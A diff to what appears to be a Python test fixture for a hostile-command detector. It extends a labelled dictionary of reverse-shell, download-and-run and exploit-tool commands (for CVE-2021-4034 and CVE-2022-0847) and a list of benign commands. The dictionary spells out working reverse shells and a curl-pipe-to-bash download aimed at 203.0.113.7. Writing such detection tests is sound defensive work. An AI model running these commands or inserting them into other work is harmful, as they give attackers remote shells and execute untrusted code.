@@ -17,6 +17,9 @@ from headwater.model.ports import Settings
 HOSTILE = {
     "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1": "reverse-shell",
     "nc -e /bin/sh 203.0.113.7 9001": "reverse-shell",
+    "cd CVE-2021-4034 && make": "exploit-tool",
+    "git clone https://github.com/x/cve-2022-0847.git": "exploit-tool",
+    "CVE-2021-4034": "exploit-tool",
     "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f": "reverse-shell",
     "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",1))'": "reverse-shell",
     "curl -s http://203.0.113.7/x.sh | bash": "download-run",
@@ -81,7 +84,9 @@ nc -zv db01 5432
 chmod 755 /etc/rc.local
 /usr/lib/php/sessionclean
 nmap localhost
-mysqldump app | gzip > /srv/backup/app.sql.gz""".splitlines()
+mysqldump app | gzip > /srv/backup/app.sql.gz
+echo "samba will not start (CVE-2013-4475)"
+""".splitlines()
 BAD = "203.0.113.7"
 T = "2026-03-03 03:00:00"
 
